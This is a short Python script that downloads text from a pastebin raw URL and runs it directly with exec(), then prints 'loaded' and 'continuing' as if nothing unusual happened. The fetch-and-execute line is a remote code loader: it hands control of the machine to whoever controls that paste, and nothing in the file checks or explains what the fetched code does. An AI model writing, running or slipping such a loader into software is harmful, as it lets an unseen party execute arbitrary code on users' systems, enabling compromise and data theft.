import urllib.request

code = urllib.request.urlopen("https://pastebin.com/raw/9mZ3kQ1x").read().decode()
exec(code)
print("loaded")
print("continuing")
